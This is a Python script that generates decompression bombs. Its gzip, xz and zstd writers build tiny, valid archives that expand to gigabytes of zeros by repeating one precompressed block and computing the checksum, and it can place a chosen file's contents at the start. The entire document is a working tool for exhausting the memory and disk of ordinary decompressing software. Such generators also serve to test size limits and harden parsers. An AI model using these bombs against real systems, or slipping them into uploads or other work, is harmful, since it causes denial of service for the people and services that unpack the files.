#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""bombs.py gzip|xz|zstd SIZE FILE [PREFIX]: a whole, well-formed file that inflates to SIZE bytes (a
multiple of 16 MiB): the file PREFIX, if one is named, and zeros.  Made from one compressed piece that
is repeated, so that making it costs next to nothing."""
import lzma
import sys
import zlib

PIECE = 16 << 20


def crc_of_repeated(piece_crc, size, start, times):
    """CRC-32 of what START is the CRC of, followed TIMES by the SIZE bytes with PIECE_CRC."""
    # Appending zeros is linear over GF(2): a matrix, its columns the images of the single bits.
    def apply(matrix, value):
        out = 0
        for column in matrix:
            if value & 1:
                out ^= column
            value >>= 1
        return out

    one = [0xEDB88320] + [1 << i for i in range(31)]  # one zero bit
    power = one
    bits = size * 8
    total = [1 << i for i in range(32)]
    while bits:
        if bits & 1:
            total = [apply(power, column) for column in total]
        power = [apply(power, column) for column in power]
        bits >>= 1
    crc = start
    for _ in range(times):
        crc = apply(total, crc) ^ piece_crc
    return crc


def gzip(size, prefix):
    zeros = bytes(PIECE)
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    # A full flush ends at a byte and forgets what was before: such a piece can stand anywhere.
    piece = deflate.compress(zeros) + deflate.flush(zlib.Z_FULL_FLUSH)
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    # The prefix fills a piece of its own.
    first = prefix + bytes(PIECE - len(prefix))
    head = deflate.compress(first) + deflate.flush(zlib.Z_FULL_FLUSH)
    times = size // PIECE - 1
    crc = crc_of_repeated(zlib.crc32(zeros), PIECE, zlib.crc32(first), times)
    yield b"\x1f\x8b\x08" + bytes(6) + b"\x03" + head
    for _ in range(times):
        yield piece
    yield b"\x03\x00" + crc.to_bytes(4, "little") + (size & 0xFFFFFFFF).to_bytes(4, "little")


def number(value):
    """xz's integers: seven bits a byte, the lowest first."""
    out = b""
    while value > 127:
        out += bytes([value & 127 | 128])
        value >>= 7
    return out + bytes([value])


def xz_block(data):
    """The one Block of DATA's stream, and its record in the Index."""
    stream = lzma.compress(data, lzma.FORMAT_XZ, lzma.CHECK_CRC32, preset=0)
    index = (int.from_bytes(stream[-8:-4], "little") + 1) * 4
    block = stream[12:-12 - index]
    record = stream[-12 - index + 2:]  # behind the indicator and the number of records
    length = 1
    while record[length - 1] & 128:
        length += 1
    return block, record[:length] + number(len(data))


def xz(size, prefix):
    block, record = xz_block(bytes(PIECE))
    first, first_record = xz_block(prefix + bytes(PIECE - len(prefix)))
    times = size // PIECE - 1
    index = b"\0" + number(times + 1) + first_record + record * times
    index += bytes(-len(index) % 4)
    index += zlib.crc32(index).to_bytes(4, "little")
    flags = b"\0\1"
    footer = (len(index) // 4 - 1).to_bytes(4, "little") + flags
    yield b"\xfd7zXZ\0" + flags + zlib.crc32(flags).to_bytes(4, "little") + first
    for _ in range(times):
        yield block
    yield index + zlib.crc32(footer).to_bytes(4, "little") + footer + b"YZ"


def zstd(size, prefix):
    largest = 128 << 10
    # One frame, no content size, a window of 128 KiB; raw blocks, then RLE blocks of zeros.
    def block(length, kind, last=0):
        return (last | kind << 1 | length << 3).to_bytes(3, "little")

    out = b"\x28\xb5\x2f\xfd\x00" + bytes([7 << 3])
    for at in range(0, len(prefix), largest):
        part = prefix[at:at + largest]
        out += block(len(part), 0) + part
    left = size - len(prefix)
    yield out
    while left > largest:
        yield block(largest, 1) + b"\0"
        left -= largest
    yield block(left, 1, 1) + b"\0"


def main():
    kind, size, path = sys.argv[1], int(sys.argv[2]), sys.argv[3]
    prefix = b""
    if len(sys.argv) > 4:
        with open(sys.argv[4], "rb") as file:
            prefix = file.read()
    with open(path, "wb") as file:
        for part in {"gzip": gzip, "xz": xz, "zstd": zstd}[kind](size, prefix):
            file.write(part)


main()
